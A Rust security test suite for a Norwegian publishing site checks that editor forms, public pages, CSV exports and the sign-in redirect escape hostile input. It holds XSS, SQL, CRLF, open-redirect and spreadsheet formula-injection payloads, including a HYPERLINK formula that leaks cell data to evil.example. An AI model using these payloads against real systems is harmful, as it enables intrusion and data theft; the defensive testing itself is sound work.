    let org_name = format!("Org {SCRIPT} {IMG} {UNI}");
    let short_name = SVG.to_string();
    let website = format!("https://evil.example/{SVG_SLASH}");
    let description = all_payloads();
    let org = |slug: &str, website: &str| {
        form(&[
            ("name", &org_name),
            ("short_name", &short_name),
            ("slug", slug),
            ("website", website),
            ("description", &description),
            ("f.orgtype", "kompetansesenter"),
            ("f.region", "vest"),
            ("f.fagfelt", "rus"),
        ])
    };
    let (status, _, html) = post(
        &state,
        "/redaktor/organisasjoner/ny",
        Some(&admin),
        &org(SCRIPT, JS_URL),
    )
    .await;
    let ctx = "POST /redaktor/organisasjoner/ny (refused)";
    f.check(status == StatusCode::UNPROCESSABLE_ENTITY, || {
        format!("{ctx}: {status}")
    });
    f.check(
        html.contains("Skriv en hel nettadresse som begynner med https://")
            && html.contains("Adressen kan bare ha små bokstaver"),
        || format!("{ctx}: field messages missing"),
    );
    f.page(ctx, status, &html);
    for value in [
        &org_name,
        &short_name,
        &description,
        &SCRIPT.to_string(),
        &JS_URL.to_string(),
    ] {
        f.shown(ctx, &html, value);
    }
    let (status, location, html) = post(
        &state,
        "/redaktor/organisasjoner/ny",
        Some(&admin),
        &org("org-injeksjon", &website),
    )
    .await;
    assert_eq!(
        (status, location.as_deref()),
        (
            StatusCode::SEE_OTHER,
            Some("/redaktor/organisasjoner/org-injeksjon?melding=org-lagret")
        ),
        "{html}"
    );
    let stored: (String, String, String, String) =
        sqlx::query_as("SELECT name, short_name, website, description FROM organisation WHERE slug = 'org-injeksjon'").fetch_one(&state.pool).await.unwrap();
    assert_eq!(
        stored,
        (
            org_name.clone(),
            short_name.clone(),
            website.clone(),
            description.clone()
        )
    );

    // ── A resource (refused, previewed, saved) that uses both.
    let title = format!("Ressurs {SCRIPT} {TITLE_BREAK} {IMG} {UNI}");
    let summary = all_on_one_line();
    let body = markdown_body();
    let link_label = format!("{SCRIPT}{IMG}");
    let link_url = format!("https://evil.example/?a={SVG_SLASH}");
    let resource = |extra: &[(&str, &str)]| {
        let mut pairs = vec![
            ("title", title.as_str()),
            ("summary", summary.as_str()),
            ("body", body.as_str()),
            ("status", "published"),
            ("f.type", "veileder"),
            ("f.nivaa", "system"),
            ("f.malgruppe", value_key.as_str()),
            ("org", "org-injeksjon"),
            ("link_label_0", link_label.as_str()),
            ("link_url_0", link_url.as_str()),
        ];
        pairs.extend_from_slice(extra);
        form(&pairs)
    };
    // (The status goes first in the form, so the refused one replaces it.)
    let refused = resource(&[
        ("slug", IMG),
        ("last_reviewed", SCRIPT),
        ("link_label_1", SVG),
        ("link_url_1", JS_URL),
        ("related", SCRIPT),
        ("f.grad", SVG),
        ("org", TEXTAREA),
    ])
    .replace("status=published", &format!("status={}", enc(IMG)));
    let (status, _, html) = post(&state, "/redaktor/ressurser/ny", Some(&admin), &refused).await;
    let ctx = "POST /redaktor/ressurser/ny (refused)";
    f.check(status == StatusCode::UNPROCESSABLE_ENTITY, || {
        format!("{ctx}: {status}")
    });
    for expect in [
        "Adressen kan bare ha små bokstaver",
        "Skriv datoen som ÅÅÅÅ-MM-DD",
        "Skriv en hel nettadresse som begynner med https://",
        "Velg utkast eller publisert.",
    ] {
        f.check(html.contains(expect), || {
            format!("{ctx}: no message {expect:?}")
        });
    }
    f.page(ctx, status, &html);
    for value in [
        &title,
        &summary,
        &body,
        &link_label,
        &link_url,
        &SCRIPT.to_string(),
        &JS_URL.to_string(),
        &SVG.to_string(),
    ] {
        f.shown(ctx, &html, value);
    }
    let (status, _, html) = post(
        &state,
        "/redaktor/ressurser/ny",
        Some(&admin),
        &resource(&[("handling", "forhandsvis")]),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    f.page("resource preview", status, &html);
    f.sanitised("resource preview", &html);
    f.shown("resource preview", &html, &body);

    let (status, location, html) = post(
        &state,
        "/redaktor/ressurser/ny",
        Some(&admin),
        &resource(&[]),
    )
    .await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{html}");
    let slug = location
        .unwrap()
        .strip_prefix("/redaktor/ressurser/")
        .unwrap()
        .split('?')
        .next()
        .unwrap()
        .to_string();
    let stored: (String, String, String) =
        sqlx::query_as("SELECT title, summary, body FROM resource WHERE slug = ?1")
            .bind(&slug)
            .fetch_one(&state.pool)
            .await
            .unwrap();
    assert_eq!(
        stored,
        (title.clone(), summary.clone(), body.clone()),
        "stored byte for byte"
    );
    let link: (String, String) = sqlx::query_as("SELECT label, url FROM resource_link WHERE resource_id = (SELECT id FROM resource WHERE slug = ?1)")
        .bind(&slug)
        .fetch_one(&state.pool)
        .await
        .unwrap();
    assert_eq!(link, (link_label.clone(), link_url.clone()));
    state.catalogue.invalidate();
    for (action, body, expect) in [
        (
            "status",
            form(&[("status", SCRIPT), ("version", "1")]),
            "Ukjent status.",
        ),
        ("gjenopprett", form(&[("version", IMG)]), "Velg en versjon."),
    ] {
        let uri = format!("/redaktor/ressurser/{slug}/{action}");
        let (status, _, answer) = post(&state, &uri, Some(&admin), &body).await;
        f.check(
            status == StatusCode::BAD_REQUEST && answer.contains(expect) && !answer.contains('<'),
            || format!("POST {uri}: {status} {answer}"),
        );
    }

    // The public page: escaped text, escaped attributes, sanitised body, safe JSON-LD.
    let detail = format!("/ressurser/{slug}");
    let (status, html) = get(&state, &detail).await;
    assert_eq!(status, StatusCode::OK);
    f.page(&detail, status, &html);
    for value in [
        &title,
        &summary,
        &link_label,
        &link_url,
        &label,
        &org_name,
        &website,
    ] {
        f.shown(&detail, &html, value);
    }
    f.check(
        html.contains(&format!("<h1>{}</h1>", text_escaped(&title))),
        || format!("{detail}: the h1 is not the escaped title"),
    );
    f.check(
        html.contains(&format!("content=\"{}\"", attr_escaped(&summary))),
        || format!("{detail}: the description meta is not the escaped summary"),
    );
    f.check(
        html.contains(&format!("href=\"{}\"", attr_escaped(&link_url))),
        || format!("{detail}: the link's href is not escaped"),
    );
    f.title_element(&detail, &html, &title);
    f.json_ld(&detail, &html, &title);
    f.sanitised(&detail, &html);

    // Everywhere else the resource, the organisation and the value appear.
    let public = [
        "/".to_string(),
        "/ressurser".into(),
        format!("/ressurser?q={}", enc("Ressurs")),
        format!("/ressurser?malgruppe={value_key}"),
        "/nytt".into(),
        "/kart".into(),
        "/brukerorganisasjoner".into(),
        "/veiviser".into(),
    ];
    for uri in &public {
        let (status, html) = get(&state, uri).await;
        f.page(uri, status, &html);
    }
    for (uri, values) in [
        (
            &*format!("/ressurser?malgruppe={value_key}"),
            vec![&title, &summary, &label],
        ),
        ("/nytt", vec![&title, &summary]),
        (
            "/brukerorganisasjoner",
            vec![&org_name, &description, &website],
        ),
    ] {
        let (_, html) = get(&state, uri).await;
        for value in values {
            f.shown(uri, &html, value);
        }
    }
    let (_, html) = get(&state, &format!("/ressurser?q={}", enc("Ressurs"))).await;
    f.check(
        html.contains("<mark>") || html.contains(&text_escaped("Ressurs")),
        || "search hits render".into(),
    );
    let (_, atom) = get(&state, "/ressurser.atom").await;
    f.no_raw("/ressurser.atom", &atom);
    f.shown("/ressurser.atom", &atom, &title);
    f.shown("/ressurser.atom", &atom, &summary);
    f.check(!atom.contains(SCRIPT) && !atom.contains(SVG), || {
        "/ressurser.atom: raw markup".into()
    });
    let (_, sitemap) = get(&state, "/sitemap.xml").await;
    f.no_raw("/sitemap.xml", &sitemap);
    f.check(
        sitemap.contains(&format!("/ressurser/{slug}</loc>")),
        || "sitemap lists the resource".into(),
    );

    // The editors' pages.
    for (uri, values) in [
        (
            format!("/redaktor/ressurser/{slug}"),
            vec![&title, &summary, &body, &link_label, &link_url],
        ),
        ("/redaktor".into(), vec![&title]),
        ("/redaktor/organisasjoner".into(), vec![&org_name]),
        (
            "/redaktor/organisasjoner/org-injeksjon".into(),
            vec![&org_name, &short_name, &website, &description],
        ),
        ("/redaktor/kategorier".into(), vec![&label]),
        (format!("/redaktor/ressurser/{slug}/slett"), vec![&title]),
    ] {
        let (status, html) = get_with(&state, &uri, &admin).await;
        f.page(&uri, status, &html);
        for value in values {
            f.shown(&uri, &html, value);
        }
    }

    // ── A content page (refused, saved).
    let page_title = format!("Om {SCRIPT} {TITLE_BREAK}");
    let page_description = format!("{IMG} {DROP} {ENTITY}");
    let (status, _, html) = post(
        &state,
        "/redaktor/sider/om-nettstedet",
        Some(&admin),
        &form(&[
            ("version", "1"),
            ("title", ""),
            ("description", &page_description),
            ("body", &body),
        ]),
    )
    .await;
    f.check(
        status == StatusCode::UNPROCESSABLE_ENTITY && html.contains("Skriv en tittel."),
        || format!("page refused: {status}"),
    );
    f.page("page refused", status, &html);
    f.shown("page refused", &html, &page_description);
    f.shown("page refused", &html, &body);
    let (status, location, html) = post(
        &state,
        "/redaktor/sider/om-nettstedet",
        Some(&admin),
        &form(&[
            ("version", "1"),
            ("title", &page_title),
            ("description", &page_description),
            ("body", &body),
        ]),
    )
    .await;
    assert_eq!(
        (status, location.as_deref()),
        (
            StatusCode::SEE_OTHER,
            Some("/redaktor/sider/om-nettstedet?melding=lagret")
        ),
        "{html}"
    );
    let stored: (String, String, String) =
        sqlx::query_as("SELECT title, description, body FROM page WHERE slug = 'om-nettstedet'")
            .fetch_one(&state.pool)
            .await
            .unwrap();
    assert_eq!(
        stored,
        (page_title.clone(), page_description.clone(), body.clone())
    );
    let (status, html) = get(&state, "/om-nettstedet").await;
    f.page("/om-nettstedet", status, &html);
    f.check(
        html.contains(&format!("<h1>{}</h1>", text_escaped(&page_title))),
        || "/om-nettstedet: the h1 is not the escaped title".into(),
    );
    f.check(
        html.contains(&format!("content=\"{}\"", attr_escaped(&page_description))),
        || "/om-nettstedet: the description is not escaped".into(),
    );
    f.title_element("/om-nettstedet", &html, &page_title);
    f.sanitised("/om-nettstedet", &html);
    let (status, html) = get_with(&state, "/redaktor/sider/om-nettstedet", &admin).await;
    f.page("/redaktor/sider/om-nettstedet", status, &html);
    for value in [&page_title, &page_description, &body] {
        f.shown("/redaktor/sider/om-nettstedet", &html, value);
    }
    let uri = format!("/redaktor/sider/{}", enc(SCRIPT));
    let (status, _, html) = post(
        &state,
        &uri,
        Some(&admin),
        &form(&[
            ("handling", "forhandsvis"),
            ("title", IMG),
            ("description", "d"),
            ("body", &body),
        ]),
    )
    .await;
    f.page(
        &format!("POST {uri} (preview of an unknown page)"),
        status,
        &html,
    );

    // ── A consultation round (refused, saved) and its public pages.
    let round_title = format!("Runde {SCRIPT} {IMG} {TITLE_BREAK}");
    let questions = [
        format!("Spørsmål {SCRIPT}?"),
        format!("Hva med {IMG}?"),
        DROP.to_string(),
        format!("{TEXTAREA} {UNI}"),
    ];
    let (status, _, html) = post(
        &state,
        "/redaktor/innspill/ny",
        Some(&admin),
        &form(&[
            ("title", &round_title),
            ("slug", IMG),
            ("intro", &body),
            ("closes_on", SCRIPT),
            ("status", SVG),
            ("questions", &questions.join("\n")),
        ]),
    )
    .await;
    let ctx = "POST /redaktor/innspill/ny (refused)";
    let expected = [
        "Skriv siste svardag som ÅÅÅÅ-MM-DD",
        "Adressen kan bare ha små bokstaver",
        "Velg utkast eller publisert.",
    ];
    let missing: Vec<&str> = expected.into_iter().filter(|m| !html.contains(m)).collect();
    f.check(
        status == StatusCode::UNPROCESSABLE_ENTITY && missing.is_empty(),
        || format!("{ctx}: {status}, messages missing: {missing:?}"),
    );
    f.page(ctx, status, &html);
    for value in [
        &round_title,
        &body,
        &questions.join("\n"),
        &SCRIPT.to_string(),
    ] {
        f.shown(ctx, &html, value);
    }
    let ids = open_round(
        &state,
        &admin,
        "runde-injeksjon",
        &round_title,
        &body,
        &questions.join("\n"),
    )
    .await;
    assert_eq!(ids.len(), questions.len());
    let stored: (String, String) =
        sqlx::query_as("SELECT title, intro FROM consultation WHERE slug = 'runde-injeksjon'")
            .fetch_one(&state.pool)
            .await
            .unwrap();
    assert_eq!(stored, (round_title.clone(), body.clone()));
    let stored: Vec<String> = sqlx::query_scalar("SELECT text FROM consultation_question WHERE consultation_id = (SELECT id FROM consultation WHERE slug = 'runde-injeksjon') ORDER BY position")
        .fetch_all(&state.pool)
        .await
        .unwrap();
    assert_eq!(stored, questions);
    for uri in [
        "/innspill",
        "/innspill/runde-injeksjon",
        "/redaktor/innspill",
        "/redaktor/innspill/runde-injeksjon",
    ] {
        let (status, html) = get_with(&state, uri, &admin).await;
        f.page(uri, status, &html);
        f.shown(uri, &html, &round_title);
        if uri == "/innspill/runde-injeksjon" {
            f.title_element(uri, &html, &round_title);
            f.sanitised(uri, &html);
            for q in &questions {
                f.shown(uri, &html, q);
            }
        }
    }

    // ── An account (refused, created, signed in).
    let display_name = format!("Kari {SCRIPT} {IMG}");
    let password = format!("{OR} {DROP}");
    for (pairs, expect, echoed) in [
        (
            vec![
                ("username", SCRIPT),
                ("display_name", "Kari"),
                ("role", "editor"),
                ("password", password.as_str()),
            ],
            "Brukernavnet må ha 2–60 tegn",
            SCRIPT.to_string(),
        ),
        (
            vec![
                ("username", "kari2"),
                ("display_name", &*format!("{SVG}{}", "x".repeat(100))),
                ("role", "editor"),
                ("password", password.as_str()),
            ],
            "Skriv et navn på høyst 100 tegn.",
            format!("{SVG}{}", "x".repeat(100)),
        ),
        (
            vec![
                ("username", "kari3"),
                ("display_name", "Kari"),
                ("role", IMG),
                ("password", password.as_str()),
            ],
            "Velg en rolle.",
            "Kari".to_string(),
        ),
    ] {
        let (status, _, html) =
            post(&state, "/redaktor/kontoer/ny", Some(&admin), &form(&pairs)).await;
        let ctx = format!("POST /redaktor/kontoer/ny refusing ({expect})");
        f.check(
            status == StatusCode::UNPROCESSABLE_ENTITY && html.contains(expect),
            || format!("{ctx}: {status}"),
        );
        f.page(&ctx, status, &html);
        f.shown(&ctx, &html, &echoed);
        f.check(
            !html.contains(&password) && !html.contains(&attr_escaped(&password)),
            || format!("{ctx}: the password is shown again"),
        );
    }
    let (status, _, html) = post(
        &state,
        "/redaktor/kontoer/ny",
        Some(&admin),
        &form(&[
            ("username", "kari.injeksjon"),
            ("display_name", &display_name),
            ("role", "editor"),
            ("password", &password),
        ]),
    )
    .await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{html}");
    assert_eq!(
        one(
            &state,
            "SELECT display_name FROM account WHERE username = ?1",
            "kari.injeksjon"
        )
        .await,
        display_name
    );
    let (token, _) = app::auth::sign_in(
        &state.pool,
        &state.sign_in,
        "kari.injeksjon",
        &password,
        &app::client::Client::unknown(),
    )
    .await
    .expect("the password works as typed");
    let kari = app::auth::session_cookie(Some(&token), false)
        .split(';')
        .next()
        .unwrap()
        .to_string();
    let (status, html) = get_with(&state, "/redaktor", &kari).await;
    f.page("/redaktor as the new account", status, &html);
    f.shown("/redaktor as the new account", &html, &display_name);
    let (status, html) = get_with(&state, "/redaktor/kontoer", &admin).await;
    f.page("/redaktor/kontoer", status, &html);
    f.shown("/redaktor/kontoer", &html, &display_name);
    let account_id = one(
        &state,
        "SELECT CAST(id AS TEXT) FROM account WHERE username = ?1",
        "kari.injeksjon",
    )
    .await;
    let (status, _, html) = post(
        &state,
        &format!("/redaktor/kontoer/{account_id}"),
        Some(&admin),
        &form(&[("handling", "passord"), ("password", "<svg>'--")]),
    )
    .await;
    f.check(
        status == StatusCode::UNPROCESSABLE_ENTITY
            && html.contains("Passordet må ha minst 12 tegn."),
        || format!("short password: {status}"),
    );
    f.page("short password", status, &html);
    for (handling, role) in [(SCRIPT, "editor"), ("rolle", IMG)] {
        let (status, _, body) = post(
            &state,
            &format!("/redaktor/kontoer/{account_id}"),
            Some(&admin),
            &form(&[("handling", handling), ("role", role)]),
        )
        .await;
        f.check(
            status == StatusCode::BAD_REQUEST && !body.contains('<'),
            || format!("account change {handling:?}/{role:?}: {status} {body}"),
        );
    }

    // ── The inbox: a handling note, a refused status, a suggestion turned into a draft.
    let suggestion = app::domain::feedback::FeedbackDraft {
        kind: "forslag".into(),
        title: format!("Forslag {SCRIPT} {TITLE_BREAK}"),
        ..Default::default()
    };
    let reference = app::db::feedback::submit(&state.pool, &suggestion, 30)
        .await
        .unwrap();
    let item = format!("/redaktor/tilbakemeldinger/{reference}");
    let note = all_payloads();
    let (status, location, _) = post(
        &state,
        &item,
        Some(&admin),
        &form(&[("status", ""), ("note", &note)]),
    )
    .await;
    assert_eq!(
        (status, location.as_deref()),
        (
            StatusCode::SEE_OTHER,
            Some(&*format!("{item}?melding=lagret"))
        )
    );
    assert_eq!(one(&state, "SELECT note FROM feedback_event WHERE feedback_id = (SELECT id FROM feedback WHERE reference = ?1)", &reference).await, note);
    let (status, html) = get_with(&state, &item, &admin).await;
    f.page(&item, status, &html);
    f.shown(&item, &html, &note);
    let (status, _, html) = post(
        &state,
        &item,
        Some(&admin),
        &form(&[("status", SCRIPT), ("note", IMG)]),
    )
    .await;
    f.check(
        status == StatusCode::UNPROCESSABLE_ENTITY && html.contains("Velg en status fra listen."),
        || format!("status refused: {status}"),
    );
    f.page("status refused", status, &html);
    let (status, location, _) = post(&state, &format!("{item}/utkast"), Some(&admin), "").await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let draft = location.unwrap().split('?').next().unwrap().to_string();
    let draft_slug = draft.rsplit('/').next().unwrap();
    assert_eq!(
        one(
            &state,
            "SELECT title FROM resource WHERE slug = ?1",
            draft_slug
        )
        .await,
        suggestion.title
    );
    let (status, html) = get_with(&state, &draft, &admin).await;
    f.page(&draft, status, &html);
    f.shown(&draft, &html, &suggestion.title);

    // ── The audit log names everything, escaped.
    let (status, html) = get_with(&state, "/redaktor/logg", &admin).await;
    f.page("/redaktor/logg", status, &html);
    for value in [
        &title,
        &org_name,
        &first_label,
        &label,
        &page_title,
        &round_title,
        &suggestion.title,
    ] {
        f.shown("/redaktor/logg", &html, value);
    }
    let (status, html) = get_with(&state, "/redaktor", &admin).await;
    f.page("/redaktor", status, &html);

    assert_eq!(
        tables(&state).await,
        before_tables,
        "DROP TABLE did nothing"
    );
    f.finish("editors' forms");
}

// ── Spreadsheet formulas in the CSV exports ──────────────────────────────

#[tokio::test]
async fn csv_exports_neutralise_spreadsheet_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let state = state(&dir).await;
    let admin = session_cookie(&state, "sjef", Role::Admin).await;

    // A resource, an organisation and a category value that start like formulas.
    let (status, _, html) = post(
        &state,
        "/redaktor/organisasjoner/ny",
        Some(&admin),
        &form(&[
            ("name", "@SUM(1+1)*cmd|' /C calc'!A0"),
            ("slug", "formel-org"),
        ]),
    )
    .await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{html}");
    let (status, location, _) = post(
        &state,
        "/redaktor/kategorier/malgruppe/ny",
        Some(&admin),
        &form(&[("label", "-2+3 formel")]),
    )
    .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let _ = location;
    let value_key = one(
        &state,
        "SELECT key FROM facet_value WHERE label = ?1",
        "-2+3 formel",
    )
    .await;
    let title = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klikk\")";
    let body = form(&[
        ("title", title),
        ("slug", "formel-ressurs"),
        ("summary", "+SUM(1,2)"),
        ("status", "published"),
        ("f.type", "veileder"),
        ("f.nivaa", "system"),
        ("f.malgruppe", &value_key),
        ("org", "formel-org"),
    ]);
    let (status, _, html) = post(&state, "/redaktor/ressurser/ny", Some(&admin), &body).await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{html}");
    state.catalogue.invalidate();

    // Feedback and consultation answers that start like formulas.
    let draft = app::domain::feedback::FeedbackDraft {
        kind: "forslag".into(),
        title: "=1+1".into(),
        url: "https://evil.example/".into(),
        message: "@SUM(A1:A9)".into(),
        name: "-1+1".into(),
        page: "/ressurser".into(),
        ..Default::default()
    };
    let reference = app::db::feedback::submit(&state.pool, &draft, 30)
        .await
        .unwrap();
    let ids = open_round(&state, &admin, "formel-runde", "=Runde", "", "+Spørsmål?").await;
    let (status, _, _) = post(
        &state,
        "/innspill/formel-runde",
        None,
        &form(&[(&format!("q{}", ids[0]), "=cmd|' /C calc'!A0")]),
    )
    .await;
    assert_eq!(status, StatusCode::SEE_OTHER);

    let mut f = Findings::default();
    for (uri, sep, must) in [
        (
            "/ressurser.csv".to_string(),
            ',',
            vec!["HYPERLINK", "SUM(1,2)", "-2+3 formel", "@SUM(1+1)"],
        ),
        (
            "/redaktor/tilbakemeldinger.csv".to_string(),
            ';',
            vec![reference.as_str(), "=1+1", "@SUM(A1:A9)", "-1+1"],
        ),
        (
            "/redaktor/innspill/formel-runde/svar.csv".to_string(),
            ';',
            vec!["+Spørsmål?", "=cmd|"],
        ),
    ] {
        let (status, csv) = get_with(&state, &uri, &admin).await;
        assert_eq!(status, StatusCode::OK, "{uri}");
        for m in must {
            assert!(csv.contains(m), "{uri} lacks {m:?}: {csv}");
        }
        // The finding this test exists for: no cell may start with = + - @
        // (a spreadsheet would run it as a formula); the code prefixes `'`.
        for row in csv_rows(&csv, sep) {
            for cell in row {
                f.check(!cell.starts_with(['=', '+', '-', '@']), || {
                    format!("CSV FORMULA INJECTION: {uri}: cell {cell:?} starts like a formula")
                });
            }
        }
    }
    f.finish("CSV exports");
}

// ── The return address after signing in ──────────────────────────────────

/// `neste` must stay on this site whatever it holds: a tab or newline after
/// the first `/` is dropped by browsers (so `/\t/evil.example` becomes
/// `//evil.example`), and a newline is no header value at all.
#[tokio::test]
async fn the_return_address_after_sign_in_stays_on_the_site() {
    let dir = tempfile::tempdir().unwrap();
    let state = state(&dir).await;
    app::auth::upsert_account(
        &state.pool,
        "sjef",
        "Sjef",
        "et langt testpassord 123",
        Role::Admin,
    )
    .await
    .unwrap();
    let mut f = Findings::default();
    for next in [
        "/\t/evil.example",
        "/\n/evil.example",
        "/\r\nSet-Cookie: x=1",
        "/redaktor?x=\"><script>alert(1)</script>",
    ] {
        let (status, headers, body) = send(
            &state,
            "POST",
            "/auth/logg-inn",
            &[],
            &form(&[
                ("brukernavn", "sjef"),
                ("passord", "et langt testpassord 123"),
                ("neste", next),
            ]),
        )
        .await;
        let location = headers
            .get("location")
            .map(|l| String::from_utf8_lossy(l.as_bytes()).into_owned());
        f.check(status == StatusCode::SEE_OTHER, || {
            format!(
                "POST /auth/logg-inn neste={next:?} (valid password): answered {status} {body:?}"
            )
        });
        if let Some(location) = location {
            let cleaned: String = location
                .chars()
                .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
                .collect();
            f.check(cleaned.starts_with('/') && !cleaned.starts_with("//") && !cleaned.starts_with("/\\"), || {
                format!("POST /auth/logg-inn neste={next:?}: Location {location:?} leaves the site once a browser drops tabs/newlines")
            });
        }
    }
    f.finish("sign-in return address");
}
